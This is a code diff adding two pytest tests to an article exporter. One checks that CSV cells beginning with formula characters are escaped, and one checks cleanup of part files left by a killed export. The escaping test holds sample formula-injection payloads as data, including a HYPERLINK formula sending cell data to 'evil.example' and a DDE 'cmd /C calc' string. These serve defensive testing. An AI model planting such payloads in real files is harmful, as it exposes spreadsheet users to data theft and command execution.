@@ -6,6 +6,10 @@ import csv
 import io
 import json
 import os
+import signal
+import subprocess
+import sys
+import time
 from pathlib import Path
 
 import pyarrow as pa
@@ -17,6 +21,7 @@ from arshif.record import FIELDS, LIST_FIELDS, Article
 from indexer.archive import Archive
 from indexer.export import BATCH, LIST_SEPARATOR, export, parquet_schema
 from indexer.filters import Filters
+from tests.conftest import ROOT
 
 
 def make(n: int, **fields: object) -> Article:
@@ -214,3 +219,67 @@ def test_progress_bar_shows_only_when_on(archive: Archive, tmp_path: Path) -> No
     export(archive, tmp_path / "c.jsonl", "jsonl", console=Console(file=piped))
     assert piped.getvalue() == ""  # not a terminal: no bar
     assert read_jsonl(tmp_path / "c.jsonl") == read_jsonl(tmp_path / "a.jsonl")
+
+
+@pytest.mark.parametrize("bom", [False, True])
+def test_csv_cells_that_spreadsheets_would_run_start_with_a_quote(
+    tmp_path: Path, bom: bool
+) -> None:
+    """CSV formula injection (OWASP): a hostile page's title or text that starts with
+    = + - @ tab or CR is written as text; other cells, and JSONL, keep their values."""
+    hostile = {
+        1: '=HYPERLINK("http://evil.example/?"&A1,"اضغط هنا")',
+        2: "@SUM(1+1)*cmd|' /C calc'!A0",
+        3: "+971 خبر",
+        4: "-2+3",
+        5: "\tمسافة",
+        6: "\rعودة",
+    }
+    with Archive(tmp_path / "db" / "archive.sqlite") as archive:
+        for n, title in hostile.items():
+            archive.upsert(make(n, title=title, authors=["=cmd()", "سارة"]))
+        archive.upsert(make(7, title="عنوان عادي = لا شيء"))
+        export(archive, tmp_path / "out.csv", "csv", bom=bom, progress=False)
+        export(archive, tmp_path / "out.jsonl", "jsonl", progress=False)
+    _, rows = read_csv(tmp_path / "out.csv")
+    titles = {row["id"]: row["title"] for row in rows}
+    assert titles == {
+        **{f"id{n}": "'" + title for n, title in hostile.items()},
+        "id7": "عنوان عادي = لا شيء",
+    }
+    assert all(row["authors"] == "'=cmd(); سارة" for row in rows if row["id"] != "id7")
+    assert rows[0]["language_prob"][0].isdigit()  # numbers are not text cells
+    assert {r["title"] for r in read_jsonl(tmp_path / "out.jsonl")} >= set(hostile.values())
+
+
+def test_a_killed_exports_part_file_is_removed_by_the_next(tmp_path: Path) -> None:
+    """SIGKILL leaves no chance to clean up: the next export to the same file removes the
+    hidden part file of the dead process, and leaves one whose writer still runs."""
+    db = tmp_path / "db" / "archive.sqlite"
+    with Archive(db) as archive:
+        for n in range(1, 8):
+            archive.upsert(make(n))
+    out = tmp_path / "out.jsonl"
+    slow = (
+        "import sys, time\nfrom pathlib import Path\nfrom indexer.archive import Archive\n"
+        "from indexer.export import export\n"
+        "with Archive(Path(sys.argv[1])) as a:\n"
+        "    export(a, Path(sys.argv[2]), 'jsonl', progress=False,"
+        " observe=lambda article: time.sleep(60))\n"
+    )
+    child = subprocess.Popen([sys.executable, "-c", slow, str(db), str(out)], cwd=ROOT)
+    try:
+        deadline = time.monotonic() + 60
+        while not list(tmp_path.glob(".out.jsonl.*.part")) and time.monotonic() < deadline:
+            time.sleep(0.05)
+        (part,) = tmp_path.glob(".out.jsonl.*.part")
+    finally:
+        child.send_signal(signal.SIGKILL)
+        child.wait()
+    assert part.exists() and not out.exists(), "SIGKILL left the part file behind"
+    alive = tmp_path / f".out.jsonl.{os.getpid()}.0000.part"  # this process still writes it
+    alive.write_bytes(b"in progress")
+    with Archive(db) as archive:
+        assert export(archive, out, "jsonl", progress=False) == 7
+    assert not part.exists() and alive.exists()
+    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["db", "out.jsonl", alive.name])
